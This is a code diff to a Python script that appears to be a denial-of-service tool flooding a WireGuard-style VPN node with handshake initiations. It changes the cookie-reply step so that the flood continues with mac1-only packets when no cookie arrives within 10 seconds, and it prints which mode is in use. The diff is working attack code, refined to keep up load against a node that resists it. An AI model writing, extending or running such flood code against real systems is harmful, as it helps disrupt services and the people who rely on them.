@@ -57,10 +57,12 @@ def _initiation() -> bytearray:
     return bytearray(struct.pack("<II", 1, random.getrandbits(32)) + os.urandom(140))
 
 
-def get_cookie(sock: socket.socket, dest: tuple[str, int], gen: CookieGenerator) -> None:
+def get_cookie(sock: socket.socket, dest: tuple[str, int], gen: CookieGenerator) -> bool:
     """Push the node under load with mac1-only initiations until one is answered with a
-    cookie reply; the reply is bound to the mac1 it answers, so try each one sent lately."""
-    deadline = time.monotonic() + 30
+    cookie reply; the reply is bound to the mac1 it answers, so try each one sent lately.
+    False if none came in 10 s: a node that drops a source's excess handshakes in the
+    kernel never comes under load from one address, so the flood goes on with mac1 only."""
+    deadline = time.monotonic() + 10
     sock.setblocking(False)
     sent_mac1s: collections.deque[bytes | None] = collections.deque(maxlen=4000)
     while time.monotonic() < deadline:
@@ -81,8 +83,8 @@ def get_cookie(sock: socket.socket, dest: tuple[str, int], gen: CookieGenerator)
             gen.last_mac1 = mac1
             with contextlib.suppress(Exception):
                 gen.consume_reply(reply, now=0.0)
-                return
-    raise SystemExit("no cookie reply in 30 s")
+                return True
+    return False
 
 
 def flood_mac2(
@@ -93,7 +95,10 @@ def flood_mac2(
     if source:
         sock.bind((source, 0))
     dest = (host, port)
-    get_cookie(sock, dest, gen)
+    got = get_cookie(sock, dest, gen)
+    print(
+        "flooding", "with mac2" if got else "with mac1 only (no cookie reply in 10 s)", flush=True
+    )
     pool: list[bytes] = []
     for _ in range(POOL):
         msg = _initiation()
